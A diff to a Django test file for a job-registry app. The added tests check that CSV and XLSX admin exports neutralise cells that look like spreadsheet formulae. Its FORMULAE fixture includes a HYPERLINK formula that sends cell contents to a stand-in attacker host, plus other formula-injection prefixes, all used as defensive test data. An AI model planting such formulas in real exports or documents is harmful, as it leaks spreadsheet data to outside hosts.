@@ -28,6 +28,7 @@ from tests.factories import (
     OccupationFactory,
     PersonFactory,
     SkillFactory,
+    VacancyFactory,
     make_credit_code,
     make_id_number,
     region,
@@ -333,7 +334,9 @@ def test_export_through_the_admin_contains_only_the_staff_members_area() -> None
 # --- From the command line -------------------------------------------------------------------------
 
 
-def test_the_command_imports_a_whole_file_or_reports_every_bad_row(tmp_path: Any, capsys: Any) -> None:
+def test_the_command_imports_a_whole_file_or_reports_every_bad_row(
+    tmp_path: Any, capsys: Any, english: None
+) -> None:
     from django.core.management import CommandError, call_command
 
     good = tmp_path / "good.csv"
@@ -350,9 +353,72 @@ def test_the_command_imports_a_whole_file_or_reports_every_bad_row(tmp_path: Any
     )
     with pytest.raises(CommandError, match="nothing was imported"):
         call_command("import_registry", "people", str(bad))
-    assert "第2行 现居住地" in capsys.readouterr().err
+    assert "Row 2 现居住地" in capsys.readouterr().err
     assert Person.objects.count() == 0
     call_command("import_registry", "people", str(good), "--dry-run")
     assert Person.objects.count() == 0
     call_command("import_registry", "people", str(good))
     assert Person.objects.count() == 1
+
+
+# --- Formulae in exported cells --------------------------------------------------------------------
+
+FORMULAE = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
+    "+1+1",
+    "-2+3",
+    "@SUM(A1:A2)",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def admin_export(client: Client, model: str, resource: type, fmt: str) -> bytes:
+    url = reverse(f"admin:jobs_{model}_export")
+    data = {
+        "format": _format_index(client, url, fmt),
+        "resource": "0",
+        **{f"{resource.__name__.lower()}_{f}": "on" for f in resource.Meta.fields},
+    }
+    response = client.post(url, data)
+    assert response.status_code == 200
+    return bytes(response.content)
+
+
+@pytest.mark.parametrize(
+    ("model", "resource", "column", "make"),
+    [
+        ("person", PersonResource, "姓名", lambda text: PersonFactory(name=text)),
+        ("employer", EmployerResource, "单位名称", lambda text: EmployerFactory(name=text)),
+        ("vacancy", VacancyResource, "岗位名称", lambda text: VacancyFactory(title=text)),
+    ],
+)
+def test_exported_names_that_look_like_formulae_stay_text_in_csv_and_xlsx(
+    model: str, resource: type, column: str, make: Any
+) -> None:
+    # given a row of each registry per dangerous first character
+    for text in FORMULAE:
+        make(text)
+    client = Client()
+    client.force_login(staff_user("jingmen", "420800", groups=[CITY_STAFF]))
+    # when exported as csv
+    rows = list(csv.DictReader(io.StringIO(admin_export(client, model, resource, "csv").decode("utf-8-sig"))))
+    # then every such cell starts with an apostrophe, so no spreadsheet evaluates it
+    assert sorted(row[column] for row in rows) == sorted(f"'{text}" for text in FORMULAE)
+    # when exported as xlsx
+    sheet = openpyxl.load_workbook(io.BytesIO(admin_export(client, model, resource, "xlsx"))).active
+    headers = [cell.value for cell in sheet[1]]
+    cells = [row[headers.index(column)] for row in sheet.iter_rows(min_row=2)]
+    # then each is a string cell, not a formula
+    assert {cell.data_type for cell in cells} == {"s"}
+    # (the xml that holds the cells turns a carriage return into a line feed)
+    assert sorted(cell.value for cell in cells) == sorted(f"'{text}".replace("\r", "\n") for text in FORMULAE)
+
+
+def test_numbers_and_ordinary_text_are_exported_unchanged() -> None:
+    # given
+    VacancyFactory(title="叉车司机-夜班", wage_min=4500)
+    # when
+    dataset = VacancyResource().export(Vacancy.objects.all())
+    # then
+    assert (dataset.dict[0]["岗位名称"], dataset.dict[0]["最低薪酬"]) == ("叉车司机-夜班", "4500")
